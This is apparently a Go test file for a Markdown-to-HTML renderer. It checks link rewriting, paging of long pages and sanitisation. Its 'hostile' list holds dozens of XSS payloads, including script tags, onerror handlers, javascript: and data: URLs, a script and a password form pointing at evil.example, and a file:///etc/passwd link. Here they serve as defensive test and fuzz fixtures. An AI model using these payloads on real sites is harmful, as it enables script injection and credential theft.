package pagehtml_test

import (
	"context"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"docent/cmd/internal/httpapi/pagehtml"
	"docent/pipeline/ingest/parse"
	"docent/pipeline/ingest/parse/formats"
	"docent/pipeline/knowledge/graph"
	"docent/store/doc"
)

func read(t *testing.T, file, text string) pagehtml.Page {
	t.Helper()
	r, err := formats.AllParsers()
	if err != nil {
		t.Fatal(err)
	}
	d, err := r.Parse(t.Context(), []byte(text), parse.File{Path: file, Layout: doc.LayoutUploads})
	if err != nil {
		t.Fatal(err)
	}
	return pagehtml.Page{Text: d.Text, Plain: d.Plain, Sections: d.Sections, Blocks: d.Blocks}
}

// shown is the HTML of all parts.
func shown(t *testing.T, p pagehtml.Page) string {
	t.Helper()
	cut := pagehtml.New(p)
	var b strings.Builder
	for i := range cut.Len() {
		html, err := cut.WriteHTML(t.Context(), i)
		if err != nil {
			t.Fatal(err)
		}
		b.WriteString(html)
	}
	return b.String()
}

func TestAPageIsShown(t *testing.T) {
	t.Parallel()
	p := read(t, "guide/lamps.md", "---\ntitle: Lamps\n---\n# Lamps\n\nA *lamp* burns [oil](../oil.md#kinds), see [the site][site] and [below](#trim).\n\n## Trim\n\n| tool | use |\n| :-- | --: |\n| `scissors` | wick |\n\n- [x] done\n\n```sh\ntrim --soot <lamp>\n```\n\n![a lamp](https://example.org/lamp.png)\n\n[site]: https://lamps.example.org/a\n")
	list := graph.NewList([]graph.Ref{{Path: "guide/lamps.md"}, {Path: "oil.md"}})
	p.Link = pagehtml.Linker(list, "Lamps@1.0", "guide/lamps.md", "")
	got := shown(t, p)
	for _, want := range []string{
		`<section id="s-lamps" data-from="4" data-to="7">`, `<h1>Lamps</h1>`, `<em>lamp</em>`,
		`<a href="#/read/Lamps@1.0/oil.md?at=kinds"`, `<a href="#/read/Lamps@1.0/guide/lamps.md?at=trim"`,
		`<a href="https://lamps.example.org/a" rel="nofollow noreferrer noopener" target="_blank">the site</a>`,
		`<section id="s-trim" data-from="8"`, `<td align="left"><code>scissors</code></td>`, `<td align="right">wick</td>`, "☑", "trim --soot &lt;lamp&gt;", "[picture: a lamp]",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is missing in\n%s", want, got)
		}
	}
	for _, not := range []string{"title: Lamps", "<img", "lamp.png", "[site]:", "<input"} {
		if strings.Contains(got, not) {
			t.Errorf("%s stands in\n%s", not, got)
		}
	}
}

// hostile are texts that would do something in a browser.
var hostile = []string{
	"<script>window.hacked=1</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
	"<a href=\"javascript:alert(1)\">x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#x0A;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](<java\tscript:alert(1)>)",
	"[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)", "<javascript:alert(1)>", "[x][y]\n\n[y]: javascript:alert(1)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](\\\\evil.example\\x)",
	"<iframe src=https://evil.example></iframe>", "<object data=x></object><embed src=x>", "<form action=https://evil.example><input name=password><button>go</button></form>",
	"<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
	"<p style='position:fixed' class=toast id=main onclick=alert(1)>x</p>", "<video src=x onerror=alert(1)></video><audio src=x autoplay></audio>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<table><td><svg><desc><img src=x onerror=alert(1)></desc></svg></table>", "</section></article></main></body><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
	"<template><img src=x onerror=alert(1)></template>", "<textarea></textarea><img src=x onerror=alert(1)>", "<plaintext><img src=x onerror=alert(1)>", "<a href='https://a.example' target=_top onmouseover=alert(1) rel=opener>x</a>",
	"<details ontoggle=alert(1) open>x</details>", "<![CDATA[<script>alert(1)</script>]]>", "<xmp><img src=x onerror=alert(1)></xmp>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"![x](https://evil.example/a.png \"onerror=alert(1)\")", "# x {onclick=alert(1) id=main}", "```x\" onmouseover=\"alert(1)\n<script>\n```", "text \u202e gpj.exe \x1b[31m",
	"<dialog open>x</dialog><slot name=a>", "<isindex action=javascript:alert(1)>", "<a href=\"#\" id=\"toast\" name=\"main\">x</a>",
}

// tag is a tag in HTML that is well formed: attributes are quoted.
var tag = regexp.MustCompile(`<(/?)([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*/?>`)

var attribute = regexp.MustCompile(`\s([a-z-]+)(?:="([^"]*)")?`)

// harmless checks that HTML has only elements and attributes that do nothing.
func harmless(html string) error {
	elements := " section h1 h2 h3 h4 h5 h6 p br hr div span blockquote pre code kbd samp var b strong i em u s del ins mark small sub sup q cite abbr dfn ul ol li dl dt dd table caption thead tbody tfoot tr th td details summary figure figcaption a "
	attributes := " start colspan rowspan align open href rel target id class data-from data-to "
	depth := 0
	for _, m := range tag.FindAllStringSubmatch(html, -1) {
		if !strings.Contains(elements, " "+m[2]+" ") {
			return fmt.Errorf("the element %s", m[2])
		}
		if m[2] == "section" {
			if depth++; m[1] == "/" {
				depth -= 2
			}
		}
		for _, a := range attribute.FindAllStringSubmatch(m[3], -1) {
			link := strings.HasPrefix(a[2], "#/") || strings.HasPrefix(a[2], "https://") || strings.HasPrefix(a[2], "http://") || strings.HasPrefix(a[2], "mailto:")
			switch {
			case !strings.Contains(attributes, " "+a[1]+" "), a[1] == "class" && a[2] != "plain", a[1] == "id" && (m[2] != "section" || !strings.HasPrefix(a[2], pagehtml.IDPrefix)):
				return fmt.Errorf("the attribute %s=%q of %s", a[1], a[2], m[2])
			case a[1] == "href" && !link:
				return fmt.Errorf("a link to %q", a[2])
			case a[1] == "target" && !strings.Contains(m[3], "noopener"):
				return fmt.Errorf("a window that can reach back: %s", m[0])
			}
		}
	}
	if rest := tag.ReplaceAllString(html, ""); strings.ContainsAny(rest, "<") {
		return fmt.Errorf("a < that begins no known tag: %.200s", rest)
	}
	if depth != 0 || strings.ContainsAny(html, "\u202e\x1b") {
		return fmt.Errorf("%d sections are open, or control characters stand there", depth)
	}
	return nil
}

func TestHostilePagesAreHarmless(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		for _, around := range []string{"%s", "# A\n\n%s\n\n## B\n\ntext", "- %s\n- x", "> %s", "| a |\n| --- |\n| %s |", "x %s y", "<div>\n\n%s\n\n</div>", "# %s"} {
			page := fmt.Sprintf(around, text)
			if err := harmless(shown(t, read(t, "a.md", page))); err != nil {
				t.Errorf("%q: %v\n%s", page, err, shown(t, read(t, "a.md", page)))
			}
		}
	}
}

// What no page may do, whatever bytes it has.
func FuzzPagesAreHarmless(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if err := harmless(shown(t, pagehtml.Page{Text: []byte(text)})); err != nil {
			t.Errorf("%v", err)
		}
	})
}

// Text that is no Markdown is shown unchanged.
func TestPlainTextIsNoMarkdown(t *testing.T) {
	t.Parallel()
	got := shown(t, pagehtml.Page{Text: []byte("# no heading <b>x</b>\n\n    *a* & b\n"), Plain: true})
	want := "<section data-from=\"1\" data-to=\"3\">\n<pre class=\"plain\">\n# no heading &lt;b&gt;x&lt;/b&gt;\n\n    *a* &amp; b</pre>\n</section>\n"
	if got != want {
		t.Errorf("%q", got)
	}
	if got := shown(t, pagehtml.Page{}); got != "" {
		t.Errorf("an empty page is %q", got)
	}
}

// A long page comes in parts, which together have all of it, and each heading leads to
// the part that shows it.
func TestALongPageComesInParts(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := range 400 {
		fmt.Fprintf(&b, "## Heading %d\n\n%s number %d.\n\n", i, strings.Repeat("Oil burns in lamps. ", 60), i)
	}
	p := read(t, "long.md", b.String())
	cut := pagehtml.New(p)
	if cut.Len() < 3 {
		t.Fatalf("%d parts of %d bytes", cut.Len(), len(p.Text))
	}
	var parts []string
	for i := range cut.Len() {
		html, err := cut.WriteHTML(t.Context(), i)
		if err != nil {
			t.Fatal(err)
		}
		parts = append(parts, html)
	}
	all := strings.Join(parts, "")
	for i := range 400 {
		if n := strings.Count(all, fmt.Sprintf(" number %d.<", i)); n != 1 {
			t.Errorf("section %d stands there %d times", i, n)
		}
		line := p.Sections[i].Span.StartLine
		if !strings.Contains(parts[cut.PartOf(line)], fmt.Sprintf(`id="s-heading-%d"`, i)) {
			t.Errorf("heading %d is not in part %d", i, cut.PartOf(line))
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := cut.WriteHTML(ctx, 0); !errors.Is(err, context.Canceled) {
		t.Errorf("a cancelled request got %v", err)
	}
}

// Markup that takes a parser quadratic time costs no more than its pieces do: read as a
// whole, 150 kB of "[a](" take seconds.
func TestMarkupWithoutEndIsQuick(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("it runs on one goroutine: the race detector has nothing to find")
	}
	for _, unit := range []string{"[a](", "*a_ ", "`a ``", "<a ", "> ", "- ", "![", "| a ", "<div>", "[a]: b\n", "&#", "\\", "~~a ~"} {
		text := strings.Repeat(unit, 150_000/len(unit))
		html, err := pagehtml.New(pagehtml.Page{Text: []byte(text)}).WriteHTML(t.Context(), 0)
		if err != nil {
			t.Errorf("%q: %v", unit, err)
		}
		if err := harmless(html); err != nil {
			t.Errorf("%q: %v", unit, err)
		}
	}
}

// A note of GitHub's is named in words, as in the app. A quote that only resembles one is as it is.
func TestNotesAreNamed(t *testing.T) {
	t.Parallel()
	got := shown(t, read(t, "lamps.md", "# Lamps\n\n> [!IMPORTANT]\n> Mind *the* wick.\n\n> [!TIP]\n>\n> Trim it.\n\n> [!WARNING] Hot\n\n"+
		"> [!OTHER]\n> Text.\n\n```\n> [!NOTE]\n```\n"))
	for _, want := range []string{"<strong>Important:</strong> Mind <em>the</em> wick.", "<strong>Tip:</strong>", "Trim it.",
		"[!WARNING] Hot", "[!OTHER]", "&gt; [!NOTE]"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is missing in\n%s", want, got)
		}
	}
	for _, not := range []string{"[!IMPORTANT]", "[!TIP]"} {
		if strings.Contains(got, not) {
			t.Errorf("%s is in\n%s", not, got)
		}
	}
}
